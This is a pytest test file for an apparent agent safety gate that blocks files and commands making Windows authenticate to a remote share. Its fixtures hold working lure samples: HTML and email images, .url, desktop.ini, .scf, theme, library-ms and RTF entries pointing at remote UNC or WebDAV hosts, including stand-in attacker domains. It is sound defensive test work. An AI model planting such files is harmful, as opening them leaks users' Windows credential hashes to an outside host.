"""Files that make Windows sign in to another host when they are shown (a page's image, a shortcut's icon, a
folder's desktop.ini, a theme's wallpaper, a library's location on a share elsewhere) block, written directly or
from the shell; pages with relative, https or local images, and notes that mention a share, pass."""

from __future__ import annotations

import pytest

from gate import SafetyGate
from gate.model import Decision, FileWrite, Shell
from gate.rules.devconfig_fetch import remote_fetch

GATE = SafetyGate()


def _write(path: str, content: str):
    return GATE.assess(FileWrite(path=path, content=content))


def _shell(command: str):
    return GATE.assess(Shell(command=command))


@pytest.mark.parametrize(("path", "content"), [
    ("invite.html", '<p>Hello</p><img width=1 height=1 src="file://203.0.113.61/pixel.gif">'),
    ("newsletter.htm", "<div style=\"background: url('\\\\192.0.2.77\\assets\\bg.png')\"></div>"),
    ("status.html", '<link rel="stylesheet" href="file:////files.attacker.example/css/site.css">'),
    ("badge.svg", '<svg xmlns:xlink="http://www.w3.org/1999/xlink"><image xlink:href="file://198.51.100.3/b.png"/></svg>'),
    ("mail.eml", 'Content-Type: text/html\n\n<img src=3D"file://192.0.2.200/t.jpg">'),
    ("word/_rels/document.xml.rels", '<Relationship Id="r9" Target="\\\\10.20.30.40\\pub\\x.png" '
                                     'TargetMode="External"/>'),
    ("Quarterly.url", "[InternetShortcut]\nURL=https://intranet.example.com/q\n"
                      "IconFile=\\\\198.51.100.66\\icons\\q.ico\nIconIndex=0\n"),
    ("Start.url", "[InternetShortcut]\nURL=file://203.0.113.9/pub/\n"),
    ("C:/Users/kim/Downloads/folder/desktop.ini", "[.ShellClassInfo]\n"
                                                  "IconFile=\\\\nas-evil.example\\i\\f.ico\nIconIndex=0\n"),
    ("Ocean.theme", "[Control Panel\\Desktop]\nWallpaper=\\\\192.0.2.150@SSL\\DavWWWRoot\\sea.jpg\n"),
    ("Team.library-ms", "<libraryDescription><url>//198.51.100.90/team</url></libraryDescription>"),
    ("Files.searchConnector-ms", "<searchConnectorDescription><simpleLocation><url>smb://192.0.2.5/f</url></simpleLocation>"
                                 "</searchConnectorDescription>"),
    ("report.rtf", '{\\rtf1{\\field{\\*\\fldinst INCLUDEPICTURE "\\\\\\\\203.0.113.12\\\\p\\\\x.png"}}}'),
    ("clickme.scf", "[Shell]\nCommand=2\nIconFile=icon.ico\n"),
])
def test_files_that_fetch_from_a_share_elsewhere_block(path, content):
    got = _write(path, content)
    assert got.decision is Decision.BLOCK, (path, got.rules)
    assert "block.files.remote-share-fetch" in got.rules


@pytest.mark.parametrize(("path", "content"), [
    ("site/index.html", '<img src="img/logo.png"><img src="https://cdn.example.net/a.png">'
                        '<script src="//cdn.example.net/x.js">'),
    ("docs/shares.html", "<p>Map the drive with <code>net use S: \\\\fileserver\\team</code>.</p>"),
    ("docs/links.html", '<a href="https://example.org/file://x">spec</a><img src="file:///C:/Users/me/Pictures/a.png">'),
    ("local.html", '<img src="file://localhost/home/me/chart.png"><img src="file://C:/tmp/chart.png">'),
    ("icon.svg", '<svg xmlns="http://www.w3.org/2000/svg"><rect width="4" height="4"/></svg>'),
    ("Docs.url", "[InternetShortcut]\nURL=https://docs.python.org/3/\n"),
    ("desktop.ini", "[.ShellClassInfo]\nIconResource=C:\\Windows\\System32\\imageres.dll,-3\n"),
    ("backup.xml", "<job><source>\\\\nas\\photos</source><target>D:\\backup</target></job>"),
    ("notes.md", "The old files are on \\\\fileserver\\archive and file://fileserver/archive.\n"),
    ("run.ps1", "Copy-Item \\\\buildbox\\drops\\app.zip .\n"),
])
def test_pages_and_notes_that_load_nothing_from_elsewhere_pass(path, content):
    got = _write(path, content)
    assert "block.files.remote-share-fetch" not in got.rules, (path, got.rules)


@pytest.mark.parametrize("command", [
    "echo '<img src=\"file://192.0.2.31/x.png\">' > offer.html",
    "printf '[InternetShortcut]\\nURL=https://a.example\\nIconFile=\\\\\\\\198.51.100.4\\\\i.ico\\n' > Report.url",
    "cat > desktop.ini <<'EOF'\n[.ShellClassInfo]\nIconResource=\\\\203.0.113.70\\s\\a.ico,0\nEOF",
    "echo '[Shell]' > tray.scf",
    "$l=(New-Object -ComObject WScript.Shell).CreateShortcut(\"$env:USERPROFILE\\Desktop\\Docs.lnk\");"
    " $l.IconLocation='\\\\192.0.2.18\\share\\doc.ico'; $l.Save()",
])
def test_the_same_files_written_from_the_shell_block(command):
    got = _shell(command)
    assert got.decision is Decision.BLOCK, (command, got.rules)


@pytest.mark.parametrize("command", [
    "echo '<img src=\"images/a.png\">' > index.html",
    "$l=(New-Object -ComObject WScript.Shell).CreateShortcut('C:\\Users\\me\\Desktop\\Notes.lnk');"
    " $l.TargetPath='C:\\Windows\\notepad.exe'; $l.Save()",
    "copy \\\\fileserver\\drops\\setup.url .",
    "echo 'see \\\\fileserver\\team' >> notes.txt",
])
def test_local_shortcuts_and_pages_from_the_shell_pass_this_rule(command):
    assert "block.shell.remote-share-fetch" not in _shell(command).rules


def test_a_long_run_of_slashes_is_read_quickly():
    assert remote_fetch("<p>" + "\\\\a" * 50_000, "markup") is None
    assert remote_fetch("file:///" * 30_000, "shell") is None
    assert remote_fetch("<a href=" + "x" * 100_000 + "//", "shell") is None


@pytest.mark.parametrize("action", [
    Shell(command="Send-MailMessage -To ann@example.com -Subject hi -BodyAsHtml "
                  "-Body '<img src=\"file://198.51.100.71/logo.png\">' -SmtpServer mail.example.com"),
    Shell(command="swaks --to bo@example.org --add-header 'Content-Type: text/html' "
                  "--body '<p>Hi</p><img src=\"\\\\\\\\203.0.113.19\\\\s\\\\p.gif\">'"),
])
def test_mail_bodies_that_load_from_a_share_elsewhere_block(action):
    got = GATE.assess(action)
    assert "block.shell.remote-share-fetch" in got.rules, got.rules


def test_markup_typed_with_a_remote_share_image_blocks():
    from gate.model import Observation, Type

    got = GATE.assess(Type(text='<p>Quarterly numbers</p><img src="file://192.0.2.61/q.png">'),
                      Observation(app="Thunderbird", window_title="Write: Numbers - Thunderbird"))
    assert got.decision is Decision.BLOCK, got.rules


def test_markup_typed_with_ordinary_images_passes_this_rule():
    from gate.model import Observation, Type

    got = GATE.assess(Type(text='<p>Hi</p><img src="https://cdn.example.com/q.png"><a href="//example.com/x">x</a>'),
                      Observation(app="Thunderbird", window_title="Write: Numbers - Thunderbird"))
    assert "block.shell.remote-share-fetch" not in got.rules
